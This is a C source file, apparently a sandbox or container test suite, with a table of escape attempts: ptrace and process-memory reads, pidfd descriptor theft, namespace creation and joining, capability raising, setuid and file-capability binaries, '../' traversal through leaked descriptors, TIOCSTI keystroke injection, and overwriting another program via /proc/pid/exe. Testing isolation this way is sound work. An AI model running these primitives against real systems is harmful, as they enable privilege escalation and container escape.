// Attacks on other processes, on rights and on namespaces.
#include "attack.h"
#include <grp.h>
#include <linux/capability.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/resource.h>
#include <sys/xattr.h>
#include <termios.h>
#include <time.h>

static long trace(char **argument) {
    return ptrace(PTRACE_ATTACH, atoi(argument[0]), 0, 0);
}

// Reads one byte of another process's memory, at an address from its own map where it shows one.
static long read_memory(char **argument) {
    pid_t pid = atoi(argument[0]);
    char path[64], line[256] = "0";
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    read_some(path, line, sizeof line);
    char byte;
    struct iovec here = {&byte, 1}, there = {(void *)strtoul(line, NULL, 16), 1};
    return process_vm_readv(pid, &here, 1, &there, 1, 0);
}

static long send_signal(char **argument) {
    return kill(atoi(argument[0]), SIGKILL);
}

// Takes a descriptor of another process.
static long take_descriptor(char **argument) {
    long pidfd = syscall(SYS_pidfd_open, atoi(argument[0]), 0);
    if (pidfd < 0)
        return -1;
    return syscall(SYS_pidfd_getfd, pidfd, 0, 0);
}

static long new_user_namespace(char **argument) {
    (void)argument;
    return unshare(CLONE_NEWUSER);
}

static long clone_user_namespace(char **argument) {
    (void)argument;
    long pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0)
        _exit(0);
    return pid;
}

// clone3 keeps its flags in memory, where a filter cannot see them.
static long clone3_mount_namespace(char **argument) {
    (void)argument;
    struct clone_args args = {.flags = CLONE_NEWNS, .exit_signal = SIGCHLD};
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0)
        _exit(0);
    return pid;
}

static long join_namespace(char **argument) {
    int fd = open(argument[0], O_RDONLY);
    if (fd < 0)
        return -1;
    return setns(fd, 0);
}

// Takes a capability that the command was not given.
static long raise_capability(char **argument) {
    (void)argument;
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2];
    if (syscall(SYS_capget, &header, data) < 0)
        return -1;
    data[0].permitted |= 1u << CAP_SYS_ADMIN;
    data[0].effective |= 1u << CAP_SYS_ADMIN;
    return syscall(SYS_capset, &header, data);
}

static long realtime(char **argument) {
    (void)argument;
    struct sched_param parameters = {.sched_priority = 1};
    return sched_setscheduler(0, SCHED_FIFO, &parameters);
}

// Copies the program that lies beside this one and says what it became.
static long copy_of_became(const char *path) {
    char buffer[64 * 1024], own[4096] = "";
    ssize_t got = readlink("/proc/self/exe", own, sizeof own - 16);
    char *name = got < 0 ? NULL : strrchr(own, '/');
    if (!name)
        return -1;
    strcpy(name + 1, "became");
    int from = open(own, O_RDONLY), to = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (from < 0 || to < 0)
        return -1;
    while ((got = read(from, buffer, sizeof buffer)) > 0)
        if (write(to, buffer, (size_t)got) != got)
            return -1;
    close(from);
    return close(to);
}

// Runs the program at `path` as an ordinary user.
static long as_ordinary_user(const char *path, const char *question) {
    pid_t pid = fork();
    if (pid == 0) {
        if (setgroups(0, NULL) < 0 || setgid(65534) < 0 || setuid(65534) < 0)
            _exit(errno);
        close(1);
        execl(path, path, question, NULL);
        _exit(errno);
    }
    int status;
    if (waitpid(pid, &status, 0) < 0)
        return -1;
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : fail(EPERM);
}

// Runs a program that belongs to root and has the set-id bit, as an ordinary user.
static long set_id(char **argument) {
    if (copy_of_became(argument[0]) < 0 || chmod(argument[0], 04755) < 0)
        return -1;
    long result = as_ordinary_user(argument[0], "root");
    int kept = errno;
    unlink(argument[0]);
    errno = kept;
    return result;
}

// The same with a file that is there already.
static long set_id_of_bind(char **argument) {
    return as_ordinary_user(argument[0], "root");
}

// Runs a program whose file gives a capability that the container's root may hold.
static long file_capability(char **argument) {
    struct vfs_cap_data data = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE};
    data.data[0].permitted = 1u << CAP_CHOWN;
    if (copy_of_became(argument[0]) < 0 || chmod(argument[0], 0755) < 0)
        return -1;
    long result = setxattr(argument[0], "security.capability", &data, XATTR_CAPS_SZ_2, 0);
    if (result == 0)
        result = as_ordinary_user(argument[0], "capable");
    int kept = errno;
    unlink(argument[0]);
    errno = kept;
    return result;
}

// Reaches a file of the host's by way of any descriptor that was left open.
static long left_open(char **argument) {
    char path[4096];
    snprintf(path, sizeof path, "../../../../../../../../../../../..%s", argument[0]);
    for (int fd = 3; fd < 1024; fd++)
        if (openat(fd, path, O_RDONLY) >= 0)
            return 0;
    return fail(EBADF);
}

// Looks for a program among all processes that are to be seen, up to a number: its own, where it runs.
static long find_process(char **argument) {
    char path[64], name[64];
    for (int pid = 1; pid <= atoi(argument[1]); pid++) {
        snprintf(path, sizeof path, "/proc/%d/comm", pid);
        if (read_some(path, name, sizeof name) < 0)
            continue;
        name[strcspn(name, "\n")] = 0;
        if (strcmp(name, argument[0]) == 0)
            return 0;
    }
    return fail(ESRCH);
}

// Reads how long another process has run on the processor.
static long read_clock(char **argument) {
    clockid_t clock;
    int error = clock_getcpuclockid(atoi(argument[0]), &clock);
    struct timespec time;
    return error ? fail(error) : clock_gettime(clock, &time);
}

// Ends a process, and says whether it is gone: PID 1 is not told of signals from its own.
static long end_process(char **argument) {
    char path[64], line[512];
    snprintf(path, sizeof path, "/proc/%s/stat", argument[0]);
    kill(atoi(argument[0]), SIGSTOP);
    kill(atoi(argument[0]), SIGKILL);
    for (int tries = 0; tries < 200; tries++) {
        if (read_some(path, line, sizeof line) < 0)
            return 0;
        const char *state = strrchr(line, ')');
        if (state && strchr("ZXT", state[2]))
            return 0;
        usleep(1000);
    }
    return fail(EPERM);
}

// Takes a descriptor, the memory or the control of any process that has this name, or is PID 1.
static long take_from(char **argument) {
    char path[64], name[64];
    for (int pid = 1; pid < 1 << 16; pid++) {
        snprintf(path, sizeof path, "/proc/%d/comm", pid);
        if (read_some(path, name, sizeof name) < 0)
            continue;
        name[strcspn(name, "\n")] = 0;
        if (strcmp(name, argument[0]) != 0)
            continue;
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        if (open(path, O_RDWR) >= 0)
            return 0;
        long pidfd = syscall(SYS_pidfd_open, pid, 0);
        for (int fd = 0; fd < 64; fd++)
            if (syscall(SYS_pidfd_getfd, pidfd, fd, 0) >= 0)
                return 0;
        if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0)
            return 0;
    }
    return fail(EPERM);
}

static long raise_limit(char **argument) {
    (void)argument;
    struct rlimit limit;
    if (getrlimit(RLIMIT_NOFILE, &limit) < 0)
        return -1;
    limit.rlim_max++;
    return setrlimit(RLIMIT_NOFILE, &limit);
}

// Types a command into every terminal that it was given.
static long type_into_terminal(char **argument) {
    (void)argument;
    for (int fd = 0; fd < 3; fd++)
        if (ioctl(fd, TIOCSTI, "\n") == 0)
            return 0;
    int terminal = open("/dev/tty", O_RDWR);
    if (terminal < 0)
        return -1;
    return ioctl(terminal, TIOCSTI, "\n");
}

// Replaces the program of another process on disk, through its /proc entry.
static long overwrite_program(char **argument) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/exe", argument[0]);
    int place = open(path, O_PATH);
    if (place < 0)
        return -1;
    // A running program cannot be written: the attack waits for its end.
    if (atoi(argument[0]) > 1) {
        kill(atoi(argument[0]), SIGKILL);
        for (int tries = 0; tries < 1000 && kill(atoi(argument[0]), 0) == 0; tries++)
            sched_yield();
    }
    snprintf(path, sizeof path, "/proc/self/fd/%d", place);
    int fd;
    int tries = 0;
    do {
        fd = open(path, O_WRONLY);
    } while (fd < 0 && errno == ETXTBSY && tries++ < 100000);
    return fd;
}

int main(int argc, char **argv) {
    static const struct attack attacks[] = {
        {"ptrace", trace},
        {"read_memory", read_memory},
        {"kill", send_signal},
        {"take_descriptor", take_descriptor},
        {"unshare_user", new_user_namespace},
        {"clone_user", clone_user_namespace},
        {"clone3_mount", clone3_mount_namespace},
        {"setns", join_namespace},
        {"raise_capability", raise_capability},
        {"realtime", realtime},
        {"set_id", set_id},
        {"tiocsti", type_into_terminal},
        {"overwrite_program", overwrite_program},
        {"end_process", end_process},
        {"find_process", find_process},
        {"read_clock", read_clock},
        {"left_open", left_open},
        {"raise_limit", raise_limit},
        {"take_from", take_from},
        {"set_id_of_bind", set_id_of_bind},
        {"file_capability", file_capability},
        {0},
    };
    return attack_main(attacks, argc, argv);
}
